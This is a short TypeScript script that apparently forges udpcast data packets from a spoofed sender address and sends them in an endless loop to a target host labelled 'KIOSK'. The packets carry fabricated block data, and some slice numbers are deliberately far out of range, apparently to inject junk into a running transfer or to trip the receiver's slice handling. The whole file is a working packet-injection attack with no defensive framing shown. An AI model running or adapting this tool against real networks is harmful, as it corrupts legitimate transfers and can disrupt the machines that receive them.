/**
 * Sends forged data packets of a udpcast sender from its address, which this host must have as a
 * second one: `node forge-udpcast.ts SENDER PORTBASE KIOSK`. Blocks of the slices of a running
 * transfer, and slices that are far away.
 */
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { setTimeout as sleep } from 'node:timers/promises';

const [sender = '', portbase = '', kiosk = ''] = process.argv.slice(2);
const socket = createSocket('udp4');
socket.bind(Number(portbase) + 1, sender);
await once(socket, 'listening');
console.log('forging');
for (let round = 0; ; round++) {
  for (let slice = 0; slice < 400; slice++) {
    const packet = Buffer.alloc(16 + 1456, 0xee);
    packet.writeUInt16BE(8, 0);
    packet.writeUInt16BE(0, 2);
    packet.writeInt32BE(slice % 40 === 39 ? 0x7fff_0000 + slice : slice, 4);
    packet.writeUInt16BE((round * 7) % 112, 8);
    packet.writeUInt16BE(0, 10);
    packet.writeUInt32BE(112 * 1456, 12);
    socket.send(packet, Number(portbase), kiosk);
  }
  await sleep(2);
}
